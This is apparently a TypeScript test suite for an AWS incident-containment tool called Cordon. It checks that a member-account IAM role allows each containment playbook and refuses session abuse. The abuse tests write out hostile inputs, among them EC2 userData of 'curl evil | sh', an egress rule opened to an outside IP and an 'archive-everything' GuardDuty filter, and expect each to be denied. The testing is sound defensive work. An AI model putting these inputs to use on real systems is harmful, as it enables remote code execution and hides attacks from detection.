import { AuthorizeSecurityGroupEgressCommand, CreateSecurityGroupCommand, CreateTagsCommand, DeleteTagsCommand, ModifyInstanceAttributeCommand } from '@aws-sdk/client-ec2';
import { CreateFilterCommand, DeleteFilterCommand, UpdateFilterCommand } from '@aws-sdk/client-guardduty';
import { AttachRolePolicyCommand, GetRoleCommand, PutRolePolicyCommand, PutUserPolicyCommand, UpdateAccessKeyCommand } from '@aws-sdk/client-iam';
import { GetFunctionCommand, GetFunctionConfigurationCommand } from '@aws-sdk/client-lambda';
import type { Action } from '../../src/domain/actions/action';
import type { SuppressionRule } from '../../src/domain/triage/suppression';
import { silentLogger } from '../../src/log';
import { GuardDutyFilters } from '../../src/services/guardduty-filters';
import { containmentHarness, PROD, REGION, ROLE, withoutEvidence } from '../support/aws';
import { memberRoleEvaluator } from '../support/member-role-policy';
import { INLINE_POLICY_LIMITS } from '../../sandbox/aws/iam-sim';
import { instanceDenyDocument } from '../../src/containment/playbooks/ec2-instance';
import { revokeDocument } from '../../src/containment/playbooks/revocation';
import { ROLE_SESSION_MAX_MS } from '../../src/containment/playbooks/spent-revocations';

/**
 * Issue 17, point 2: the member-account role's policy, exactly as
 * manifests/aws/member-account-role.yaml deploys it, evaluated by an IAM evaluator that
 * is not the sandbox's own (@cloud-copilot/iam-simulate) on every call Cordon makes with
 * the role's session, with the resources and condition keys the real service supplies.
 * (a) Every containment kind plans, applies and reverts under it: the template grants
 * what Cordon needs. (b) What an attacker holding the session would try is refused.
 */
function harness(opts: Parameters<typeof containmentHarness>[0] = {}) {
  const h = containmentHarness(opts);
  const evaluator = memberRoleEvaluator({ roleName: ROLE });
  h.sb.setPolicyAuthorizer(evaluator.authorizer);
  const refused = () => h.sb.calls({ outcome: 'error' }).filter((c) => /UnauthorizedOperation|AccessDenied/.test(c.outcome));
  return { ...h, evaluator, refused };
}
type H = ReturnType<typeof harness>;

/** Nothing the evaluator could not evaluate, and no condition key the template uses dropped as foreign to its action. */
function expectCleanEvaluation(h: H) {
  expect(h.evaluator.problems).toEqual([]);
  const conditioned = ['ec2:attribute', 'aws:resourcetag/cordon:purpose', 'aws:requesttag/cordon:purpose', 'aws:requesttag/cordon:case', 'aws:tagkeys', 'iam:policyarn', 'aws:resourcetag/cordon:protected', 'ec2:createaction'];
  const dropped = h.evaluator.evaluated.flatMap((e) => e.ignoredKeys.filter((k) => conditioned.includes(k.toLowerCase())).map((k) => `${e.action} ${e.resource}: ${k}`));
  expect(dropped).toEqual([]);
}

async function containAndRevert(h: H, target: string) {
  const before = h.sb.snapshotState(PROD);
  const planned = await h.service.plan({ target, requestedBy: 'U0ALICE', dryRun: false });
  const applied = (await h.service.apply(planned.id, 'U0ALICE')) as Action;
  const contained = h.sb.snapshotState(PROD);
  const reverted = (await h.service.revert(planned.id, 'U0BOSS')) as Action;
  const after = h.sb.snapshotState(PROD);
  return { before, planned, applied, contained, reverted, after };
}

const allowedActions = (h: H) => new Set(h.evaluator.evaluated.filter((e) => e.decision === 'allow').map((e) => e.action));

describe('the member-account template grants every containment exactly what it needs', () => {
  it('EC2 instance: two interfaces through the untrack hop into isolation, snapshots, tags, attributes, the instance role denied; revert exact', async () => {
    const h = harness({ untrackSeconds: 30 });
    const inst = h.sb.createInstance({ accountId: PROD, region: REGION, enis: 2, ipv6: true, volumes: 2, instanceProfileRole: 'web-role', tags: { Name: 'web-1' } });
    const r = await containAndRevert(h, `arn:aws:ec2:${REGION}:${PROD}:instance/${inst.instanceId}`);
    expect(h.refused()).toEqual([]);
    expect(r.applied.status).toBe('applied');
    // Every step applied: none refused, the non-essential ones (tags, snapshots, termination protection) included.
    const steps = r.applied.steps;
    // One policy step on the instance role (iam.instance-cordon), no separate revocation step.
    expect(steps.length).toBeGreaterThan(7);
    expect(r.applied.plan.map((s) => s.op)).toContain('iam.instance-cordon');
    expect(steps.filter((s) => s.status !== 'applied').map((s) => `${s.stepId} ${s.status}`)).toEqual([]);
    const ec2 = r.contained.regions[REGION]!.ec2;
    for (const eni of inst.networkInterfaceIds) {
      const group = ec2.securityGroups[ec2.networkInterfaces[eni]!.groupIds[0]!]!;
      expect(group.tags).toContainEqual({ Key: 'cordon:purpose', Value: 'isolation' });
    }
    expect(ec2.instances[inst.instanceId]!.disableApiTermination).toBe(true);
    expect(Object.keys(ec2.snapshots)).toHaveLength(2);
    expect(r.reverted.status).toBe('reverted');
    expect(withoutEvidence(r.after)).toEqual(withoutEvidence(r.before));
    // The narrowed statements were exercised, not bypassed.
    for (const a of ['ec2:CreateSecurityGroup', 'ec2:AuthorizeSecurityGroupIngress', 'ec2:RevokeSecurityGroupEgress', 'ec2:ModifyInstanceAttribute', 'ec2:CreateTags', 'ec2:DeleteTags', 'ec2:CreateSnapshot', 'ec2:ModifyNetworkInterfaceAttribute', 'iam:PutRolePolicy']) {
      expect(allowedActions(h)).toContain(a);
    }
    expectCleanEvaluation(h);
  });

  it('EC2 dry run: every DryRun probe passes the policy', async () => {
    const h = harness();
    const inst = h.sb.createInstance({ accountId: PROD, region: REGION, enis: 1, volumes: 1 });
    const planned = await h.service.plan({ target: `arn:aws:ec2:${REGION}:${PROD}:instance/${inst.instanceId}`, requestedBy: 'U0ALICE', dryRun: true });
    expect(h.refused()).toEqual([]);
    expect(h.sb.calls({ outcome: 'DryRunOperation' }).length).toBeGreaterThan(2);
    expect(planned.notes.join(' ')).not.toMatch(/UnauthorizedOperation/);
    expectCleanEvaluation(h);
  });

  it('EC2 Auto Scaling member: Standby before isolation, and out of it on revert', async () => {
    const h = harness();
    const inst = h.sb.createInstance({ accountId: PROD, region: REGION });
    h.sb.createAutoScalingGroup({ accountId: PROD, region: REGION, name: 'web-asg', instanceIds: [inst.instanceId] });
    const r = await containAndRevert(h, `arn:aws:ec2:${REGION}:${PROD}:instance/${inst.instanceId}`);
    expect(h.refused()).toEqual([]);
    expect(r.applied.status).toBe('applied');
    expect(r.reverted.status).toBe('reverted');
    expect(h.sb.calls({ service: 'autoscaling', outcome: 'ok' }).map((c) => c.command)).toEqual(expect.arrayContaining(['DescribeAutoScalingInstances', 'EnterStandby', 'ExitStandby']));
    expectCleanEvaluation(h);
  });

  it('EC2 Spot Instance', async () => {
    const h = harness();
    const inst = h.sb.createInstance({ accountId: PROD, region: REGION, spot: true });
    const r = await containAndRevert(h, `arn:aws:ec2:${REGION}:${PROD}:instance/${inst.instanceId}`);
    expect(h.refused()).toEqual([]);
    expect([r.applied.status, r.reverted.status]).toEqual(['applied', 'reverted']);
    expectCleanEvaluation(h);
  });

  it('IAM user with an access key', async () => {
    const h = harness();
    h.sb.createUser(PROD, 'mallory');
    h.sb.createAccessKey(PROD, 'mallory');
    const r = await containAndRevert(h, `arn:aws:iam::${PROD}:user/mallory`);
    expect(h.refused()).toEqual([]);
    expect([r.applied.status, r.reverted.status]).toEqual(['applied', 'reverted']);
    expect(r.contained.iam.users.mallory!.attachedPolicyArns).toContain('arn:aws:iam::aws:policy/AWSDenyAll');
    expect(withoutEvidence(r.after)).toEqual(withoutEvidence(r.before));
    expectCleanEvaluation(h);
  });

  it('EC2 instance on a fleet role at its inline quota: spent revocations of gone instances are read and deleted to make room', async () => {
    const h = harness();
    const gone = `i-${'0'.repeat(16)}1`;
    const kept = revokeDocument(new Date(Date.now() - ROLE_SESSION_MAX_MS - 60_000).toISOString(), `arn:aws:ec2:${REGION}:${PROD}:instance/${gone}`);
    const size = (d: string) => d.replace(/\s/g, '').length;
    const deny = size(instanceDenyDocument(`arn:aws:ec2:${REGION}:${PROD}:instance/i-${'0'.repeat(17)}`));
    const own = (pad: number) => JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: `arn:aws:s3:::b/${'x'.repeat(pad)}` }] });
    const fill = INLINE_POLICY_LIMITS.role - size(kept) - (deny - 1);
    h.sb.createRole(PROD, 'fleet', { inlinePolicies: { own: own(fill - size(own(0))), [`cordon-instance-${gone}`]: kept } });
    const inst = h.sb.createInstance({ accountId: PROD, region: REGION, instanceProfileRole: 'fleet' });
    const r = await containAndRevert(h, `arn:aws:ec2:${REGION}:${PROD}:instance/${inst.instanceId}`);
    expect(h.refused()).toEqual([]);
    expect(r.applied.steps.find((st) => st.stepId === 'role-deny:fleet')!.result).toMatchObject({ pruned: [`cordon-instance-${gone}`] });
    expect(Object.keys(r.contained.iam.roles.fleet!.inlinePolicies).sort()).toEqual([`cordon-instance-${inst.instanceId}`, 'own'].sort());
    expect([...allowedActions(h)]).toEqual(expect.arrayContaining(['iam:ListRolePolicies', 'iam:GetRolePolicy', 'iam:DeleteRolePolicy']));
    expectCleanEvaluation(h);
  });

  it('IAM user with 10 managed policies: the inline deny-all fallback', async () => {
    const h = harness();
    const arns = Array.from({ length: 10 }, (_, i) => h.sb.createPolicy(PROD, `p${i}`, { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: '*' }] }));
    h.sb.createUser(PROD, 'full', { attachedPolicyArns: arns });
    const r = await containAndRevert(h, `arn:aws:iam::${PROD}:user/full`);
    expect(h.refused()).toEqual([]);
    expect(r.contained.iam.users.full!.inlinePolicies['cordon-deny-all']).toBeDefined();
    expect(withoutEvidence(r.after)).toEqual(withoutEvidence(r.before));
    expectCleanEvaluation(h);
  });

  it('IAM role: sessions revoked, AWSDenyAll attached then detached', async () => {
    const h = harness();
    h.sb.createRole(PROD, 'app-role');
    const r = await containAndRevert(h, `arn:aws:iam::${PROD}:role/app-role`);
    expect(h.refused()).toEqual([]);
    expect([r.applied.status, r.reverted.status]).toEqual(['applied', 'reverted']);
    expect(withoutEvidence(r.after)).toEqual(withoutEvidence(r.before));
    expectCleanEvaluation(h);
  });

  it('Lambda function with reserved and provisioned concurrency', async () => {
    const h = harness();
    const role = h.sb.createRole(PROD, 'fn-role');
    h.sb.createFunction({ accountId: PROD, region: REGION, name: 'worker', roleArn: role.arn, reservedConcurrency: 5, provisionedConcurrency: { live: 2 } });
    const r = await containAndRevert(h, `arn:aws:lambda:${REGION}:${PROD}:function:worker`);
    expect(h.evaluator.problems).toEqual([]);
    expect(h.refused()).toEqual([]);
    expect([r.applied.status, r.reverted.status]).toEqual(['applied', 'reverted']);
    expect(r.contained.regions[REGION]!.lambda.functions.worker!.reservedConcurrency).toBe(0);
    expect(r.after).toEqual(r.before);
    expect(allowedActions(h)).toContain('lambda:GetFunctionConfiguration');
    expect(allowedActions(h)).toContain('lambda:PutProvisionedConcurrencyConfig');
    expectCleanEvaluation(h);
  });

  it('AKIA access key', async () => {
    const h = harness();
    h.sb.createUser(PROD, 'ci-bot');
    const key = h.sb.createAccessKey(PROD, 'ci-bot');
    const r = await containAndRevert(h, key.accessKeyId);
    expect(h.refused()).toEqual([]);
    expect(r.contained.iam.users['ci-bot']!.accessKeys[0]!.status).toBe('Inactive');
    expect(withoutEvidence(r.after)).toEqual(withoutEvidence(r.before));
    expectCleanEvaluation(h);
  });

  it('GuardDuty ARCHIVE filter of a suppression rule: created, then deleted when the rule is lifted', async () => {
    const h = harness();
    const detector = h.sb.createDetector(PROD, REGION);
    const filters = new GuardDutyFilters(h.store, h.service, silentLogger, { now: () => new Date() });
    const rule: SuppressionRule = { id: 's-iam17', reason: 'scanner', type: 'Recon:EC2/PortProbeUnprotectedPort', author: 'U0BOSS', createdAt: new Date().toISOString(), filtersPending: [{ accountId: PROD, region: REGION }] };
    await h.store.putSuppression(rule);
    await filters.createFilters(rule.id);
    expect(Object.keys(h.sb.snapshotState(PROD).regions[REGION]!.guardduty.detectors[detector]!.filters)).toEqual(['cordon-s-iam17']);
    await h.store.putSuppression({ ...(await h.store.getSuppression(rule.id))!, liftRequestedAt: new Date().toISOString(), liftedBy: 'U0BOSS' });
    await filters.sync(rule.id);
    expect(Object.keys(h.sb.snapshotState(PROD).regions[REGION]!.guardduty.detectors[detector]!.filters)).toEqual([]);
    expect(h.refused()).toEqual([]);
    expect(allowedActions(h)).toEqual(new Set(['guardduty:ListDetectors', 'guardduty:CreateFilter', 'guardduty:DeleteFilter']));
    expectCleanEvaluation(h);
  });
});

describe('what the member role refuses to whoever holds its session', () => {
  async function session(h: H) {
    return h.service.clientsFor(PROD, { actionId: 'a-abuse', requestedBy: 'U0MALLORY' }, ['ec2', 'iam', 'lambda', 'guardduty', 'autoScaling']);
  }

  it('ModifyInstanceAttribute never changes userData (UnauthorizedOperation, as EC2 answers), while termination protection is allowed', async () => {
    const h = harness();
    const inst = h.sb.createInstance({ accountId: PROD, region: REGION });
    const ec2 = (await session(h)).ec2(REGION);
    const before = h.sb.snapshotState(PROD);
    await expect(ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: inst.instanceId, UserData: { Value: new TextEncoder().encode('curl evil | sh') } }))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    await expect(ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: inst.instanceId, Attribute: 'userData', Value: 'Y3VybCBldmls' }))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    // An attribute Cordon does not change is refused too (implicitly: no statement allows it).
    await expect(ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: inst.instanceId, InstanceType: { Value: 'p5.48xlarge' } }))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    expect(h.sb.snapshotState(PROD)).toEqual(before);
    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: inst.instanceId, DisableApiTermination: { Value: true } }));
    expect(h.sb.snapshotState(PROD).regions[REGION]!.ec2.instances[inst.instanceId]!.disableApiTermination).toBe(true);
    expect(h.evaluator.evaluated.filter((e) => e.action === 'ec2:ModifyInstanceAttribute').map((e) => e.decision)).toEqual(['explicit-deny', 'explicit-deny', 'implicit-deny', 'allow']);
    expectCleanEvaluation(h);
  });

  it("security-group rules change only on Cordon's tagged groups: a group with Cordon's name but not its tag is refused", async () => {
    const h = harness();
    const vpc = h.sb.createVpc({ accountId: PROD, region: REGION });
    const foreign = h.sb.createSecurityGroup({ accountId: PROD, region: REGION, vpcId: vpc.vpcId, name: 'web' });
    const lookalike = h.sb.createSecurityGroup({ accountId: PROD, region: REGION, vpcId: vpc.vpcId, name: `cordon-isolation-${vpc.vpcId}` });
    const ours = h.sb.createSecurityGroup({ accountId: PROD, region: REGION, vpcId: vpc.vpcId, name: 'cordon-x', tags: { 'cordon:purpose': 'isolation' } });
    const ec2 = (await session(h)).ec2(REGION);
    const before = h.sb.snapshotState(PROD);
    const open = (GroupId: string) => new AuthorizeSecurityGroupEgressCommand({ GroupId, IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '198.51.100.7/32' }] }] });
    await expect(ec2.send(open(foreign))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    await expect(ec2.send(open(lookalike))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    expect(h.sb.snapshotState(PROD)).toEqual(before);
    await ec2.send(open(ours));
    expect(h.sb.snapshotState(PROD).regions[REGION]!.ec2.securityGroups[ours]!.egress.length).toBeGreaterThan(0);
    expectCleanEvaluation(h);
  });

  it("CreateSecurityGroup only with Cordon's request tag and no other", async () => {
    const h = harness();
    const vpc = h.sb.createVpc({ accountId: PROD, region: REGION });
    const ec2 = (await session(h)).ec2(REGION);
    const before = h.sb.snapshotState(PROD);
    const create = (Tags?: { Key: string; Value: string }[]) =>
      new CreateSecurityGroupCommand({ GroupName: `g-${Tags?.length ?? 0}-${Math.random()}`, Description: 'x', VpcId: vpc.vpcId, ...(Tags ? { TagSpecifications: [{ ResourceType: 'security-group', Tags }] } : {}) });
    await expect(ec2.send(create())).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    await expect(ec2.send(create([{ Key: 'cordon:purpose', Value: 'backdoor' }]))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    await expect(ec2.send(create([{ Key: 'cordon:purpose', Value: 'isolation' }, { Key: 'Name', Value: 'x' }]))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    expect(h.sb.snapshotState(PROD)).toEqual(before);
    const made = await ec2.send(create([{ Key: 'cordon:purpose', Value: 'isolation' }]));
    expect(h.sb.snapshotState(PROD).regions[REGION]!.ec2.securityGroups[made.GroupId!]).toBeDefined();
    expectCleanEvaluation(h);
  });

  it('tags: only cordon:* keys, and DeleteTags always names its keys', async () => {
    const h = harness();
    const inst = h.sb.createInstance({ accountId: PROD, region: REGION, tags: { Name: 'web-1', owner: 'ops' } });
    const ec2 = (await session(h)).ec2(REGION);
    const before = h.sb.snapshotState(PROD);
    await expect(ec2.send(new CreateTagsCommand({ Resources: [inst.instanceId], Tags: [{ Key: 'owner', Value: 'mallory@evil.example' }] }))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    await expect(ec2.send(new DeleteTagsCommand({ Resources: [inst.instanceId] }))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    await expect(ec2.send(new DeleteTagsCommand({ Resources: [inst.instanceId], Tags: [{ Key: 'owner' }] }))).rejects.toMatchObject({ name: 'UnauthorizedOperation' });
    expect(h.sb.snapshotState(PROD)).toEqual(before);
    expectCleanEvaluation(h);
  });

  it('GuardDuty: no filter but cordon-* may be created or deleted, and none updated', async () => {
    const h = harness();
    const detector = h.sb.createDetector(PROD, REGION);
    // The account's own filter, made by its administrator (not the member role).
    await h.sb.guardduty(PROD, REGION).send(new CreateFilterCommand({ DetectorId: detector, Name: 'prod-noise', Action: 'NOOP', FindingCriteria: { Criterion: { severity: { Gte: 1 } } } }));
    const gd = (await session(h)).guardduty(REGION);
    const before = h.sb.snapshotState(PROD);
    await expect(gd.send(new DeleteFilterCommand({ DetectorId: detector, FilterName: 'prod-noise' }))).rejects.toMatchObject({ name: 'AccessDeniedException' });
    await expect(gd.send(new UpdateFilterCommand({ DetectorId: detector, FilterName: 'prod-noise', Action: 'ARCHIVE' }))).rejects.toMatchObject({ name: 'AccessDeniedException' });
    await expect(
      gd.send(new CreateFilterCommand({ DetectorId: detector, Name: 'archive-everything', Action: 'ARCHIVE', FindingCriteria: { Criterion: { severity: { Gte: 0 } } } })),
    ).rejects.toMatchObject({ name: 'AccessDeniedException' });
    expect(h.sb.snapshotState(PROD)).toEqual(before);
    expectCleanEvaluation(h);
  });

  it('Lambda: GetFunction (a presigned URL to the code) is refused, GetFunctionConfiguration allowed', async () => {
    const h = harness();
    h.sb.createFunction({ accountId: PROD, region: REGION, name: 'payments' });
    const lambda = (await session(h)).lambda(REGION);
    await expect(lambda.send(new GetFunctionCommand({ FunctionName: 'payments' }))).rejects.toMatchObject({ name: 'AccessDeniedException' });
    await expect(lambda.send(new GetFunctionConfigurationCommand({ FunctionName: 'payments' }))).resolves.toMatchObject({ FunctionName: 'payments' });
    expectCleanEvaluation(h);
  });

  it('protected principals: OrganizationAccountAccessRole, anything tagged cordon:protected and the role itself cannot be changed, only read', async () => {
    const h = harness();
    h.sb.createRole(PROD, 'OrganizationAccountAccessRole');
    h.sb.createRole(PROD, 'break-glass', { tags: { 'cordon:protected': 'true' } });
    h.sb.createUser(PROD, 'root-ops', { tags: { 'cordon:protected': 'yes' } });
    const key = h.sb.createAccessKey(PROD, 'root-ops');
    const iam = (await session(h)).iam();
    const before = h.sb.snapshotState(PROD);
    const deny = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Deny', Action: '*', Resource: '*' }] });
    for (const RoleName of ['OrganizationAccountAccessRole', 'break-glass', ROLE]) {
      await expect(iam.send(new PutRolePolicyCommand({ RoleName, PolicyName: 'cordon-deny-all', PolicyDocument: deny }))).rejects.toMatchObject({ name: 'AccessDenied' });
      await expect(iam.send(new AttachRolePolicyCommand({ RoleName, PolicyArn: 'arn:aws:iam::aws:policy/AWSDenyAll' }))).rejects.toMatchObject({ name: 'AccessDenied' });
    }
    // Protected principals stay readable, so Cordon can say why it refuses; the role itself is denied every iam:* (NeverTouchCordonItself).
    for (const RoleName of ['OrganizationAccountAccessRole', 'break-glass']) await expect(iam.send(new GetRoleCommand({ RoleName }))).resolves.toMatchObject({ Role: { RoleName } });
    await expect(iam.send(new GetRoleCommand({ RoleName: ROLE }))).rejects.toMatchObject({ name: 'AccessDenied' });
    await expect(iam.send(new PutUserPolicyCommand({ UserName: 'root-ops', PolicyName: 'cordon-deny-all', PolicyDocument: deny }))).rejects.toMatchObject({ name: 'AccessDenied' });
    await expect(iam.send(new UpdateAccessKeyCommand({ UserName: 'root-ops', AccessKeyId: key.accessKeyId, Status: 'Inactive' }))).rejects.toMatchObject({ name: 'AccessDenied' });
    expect(h.sb.snapshotState(PROD)).toEqual(before);
    expectCleanEvaluation(h);
  });
});
